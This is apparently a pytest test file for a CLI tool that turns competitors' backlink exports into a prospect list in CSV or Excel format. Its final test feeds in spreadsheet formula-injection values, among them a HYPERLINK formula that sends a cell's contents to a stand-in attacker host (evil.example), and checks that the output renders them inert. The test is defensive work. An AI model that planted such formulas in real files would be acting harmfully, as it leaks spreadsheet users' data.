"""`sheets-bridge gap`: export files in, a prospect list out (CSV read back with csv, .xlsx with openpyxl)."""

from __future__ import annotations

import codecs
import csv
from pathlib import Path

import openpyxl
import pytest

from sheets_bridge.cli import main
from sheets_bridge.service.file_gap import site_of_filename

HEADER = ["Referring page URL", "Domain rating", "Domain traffic", "Anchor", "Nofollow"]


def _export(path: Path, hosts: list[str], utf16: bool = False) -> Path:
    rows = [HEADER] + [[f"https://{h}/resources/crm-tools", "55", "12000", "crm", "false"] for h in hosts]
    if utf16:
        text = "\r\n".join("\t".join(f'"{c}"' for c in r) for r in rows) + "\r\n"
        path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    else:
        with path.open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows(rows)
    return path


@pytest.fixture
def exports(tmp_path: Path) -> dict[str, Path]:
    return {
        "own": _export(tmp_path / "my-site.com.csv", ["linksme.com", "both.org"]),
        "a": _export(tmp_path / "backlinks_rival-a.com_2026-11.csv", ["both.org", "gapone.com", "gaptwo.net"]),
        "b": _export(tmp_path / "rival-b.co.uk.tsv", ["gapone.com", "shop.blogspot.com"], utf16=True),
    }


def test_gap_to_csv(exports: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "gap.csv"
    assert main(["gap", str(exports["a"]), str(exports["b"]), "--own", str(exports["own"]), "--out", str(out),
                 "--today", "2026-11-26"]) == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_domain = {r["Domain"]: r for r in rows}
    assert set(by_domain) == {"gapone.com", "gaptwo.net", "shop.blogspot.com"}  # linksme/both link to us
    assert by_domain["gapone.com"]["Competitors linking"] == "2"
    assert by_domain["gapone.com"]["Linked competitors"] == "rival-a.com, rival-b.co.uk"
    assert rows[0]["Domain"] == "gapone.com"  # the highest priority first
    printed = capsys.readouterr().out
    assert "Gap of rival-a.com, rival-b.co.uk against my-site.com: 3 prospects" in printed
    assert "invalid host" not in printed  # reasons that excluded nothing are not listed


def test_files_read_one_at_a_time_or_together_give_the_same_list(exports: dict[str, Path], tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    outs = []
    for jobs in ("1", "3"):
        out = tmp_path / f"gap-{jobs}.csv"
        assert main(["gap", str(exports["a"]), str(exports["b"]), "--own", str(exports["own"]), "--out", str(out),
                     "--today", "2026-11-26", "--quiet", "--jobs", jobs]) == 0
        outs.append(out.read_bytes())
    assert outs[0] == outs[1]
    with pytest.raises(SystemExit):
        main(["gap", str(exports["a"]), "--out", str(tmp_path / "x.csv"), "--jobs", "0"])
    assert "is not a number of files to read at once" in capsys.readouterr().err


def test_gap_to_xlsx_reads_as_a_list(exports: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "gap.xlsx"
    assert main(["gap", str(exports["a"]), str(exports["b"]), "--own", str(exports["own"]), "--out", str(out),
                 "--quiet"]) == 0
    ws = openpyxl.load_workbook(out).active
    assert ws.title == "Prospects" and ws.freeze_panes == "B2"
    header = [c.value for c in ws[1]]
    assert header[:3] == ["Domain", "Segment", "Competitors linking"]
    assert all(c.font.bold for c in ws[1])
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}4"
    priority = ws.cell(row=2, column=header.index("Priority") + 1)
    assert isinstance(priority.value, float) and priority.number_format == "0.00"
    example = ws.cell(row=2, column=header.index("Example page") + 1)
    assert example.hyperlink is not None and example.hyperlink.target == example.value
    assert ws.column_dimensions["A"].width == 26


@pytest.mark.parametrize(("args", "message"), [
    (["--out", "gap.txt"], "write the gap to a .csv or an .xlsx file"),
    (["--out", "missing/gap.csv"], "does not exist"),
])
def test_gap_output_errors(exports: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str],
                           args: list[str], message: str) -> None:
    args = [a if not a.startswith(("gap.", "missing/")) else str(tmp_path / a) for a in args]
    assert main(["gap", str(exports["a"]), *args]) == 2
    assert message in capsys.readouterr().err


def test_gap_file_without_a_site(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    unnamed = _export(tmp_path / "export.csv", ["gapone.com"])
    assert main(["gap", str(unnamed), "--out", str(tmp_path / "g.csv")]) == 2
    assert "name the file after the site's domain" in capsys.readouterr().err


@pytest.mark.parametrize(("name", "site"), [
    ("rival.com.csv", "rival.com"), ("backlinks_rival.co.uk_2026.csv", "rival.co.uk"),
    ("www.Rival.com-backlinks.tsv", "rival.com"), ("export.csv", ""), ("ahrefs-2026-11-26.csv", ""),
])
def test_site_of_filename(name: str, site: str) -> None:
    assert site_of_filename(name) == site


@pytest.mark.parametrize(("name", "site"), [
    ("crmpilot.io.ahrefs-referring-domains.csv", "crmpilot.io"),
    ("dealflow.co.uk.semrush-backlinks.csv", "dealflow.co.uk"),
    ("capiston.com-backlinks.xlsx", "capiston.com"),
    ("backlinks_rival.co.uk_2026.csv", "rival.co.uk"),
])
def test_the_projects_own_sample_names_say_their_site(name: str, site: str) -> None:
    assert site_of_filename(name) == site


def test_gap_output_evaluates_nothing_and_has_no_follow_up_columns(tmp_path: Path) -> None:
    export = tmp_path / "rival.com.csv"
    export.write_text('Referring page URL,Referring page title,Target URL\n'
                      '@blog2.example.com/a-post-here,=1+2,"=HYPERLINK(""http://evil.example/"",""ok"")"\n'
                      'https://good.example.org/a-b-c,+Resources,https://rival.com/guide\n', encoding="utf-8")
    targets = tmp_path / "targets.csv"
    targets.write_text('URL,Page kind,Topic keywords\n"=HYPERLINK(""http://evil.example/""&A2,""ok"")",guide,x\n',
                       encoding="utf-8")
    out_csv, out_xlsx = tmp_path / "gap.csv", tmp_path / "gap.xlsx"
    for out in (out_csv, out_xlsx):
        assert main(["gap", str(export), "--targets", str(targets), "--out", str(out), "--quiet"]) == 0
    with out_csv.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert "Next action" not in rows[0] and "Touches" not in rows[0]
    cells = [c for r in rows[1:] for c in r]
    assert any("HYPERLINK" in c for c in cells)  # the text is kept...
    assert not any(c.startswith(("=", "+", "@")) for c in cells)  # ...as text a spreadsheet will not evaluate
    wb = openpyxl.load_workbook(out_xlsx)
    values = [c for r in wb["Prospects"].iter_rows(min_row=2) for c in r if c.value is not None]
    assert any("HYPERLINK" in str(c.value) for c in values)
    assert all(c.data_type != "f" for c in values)
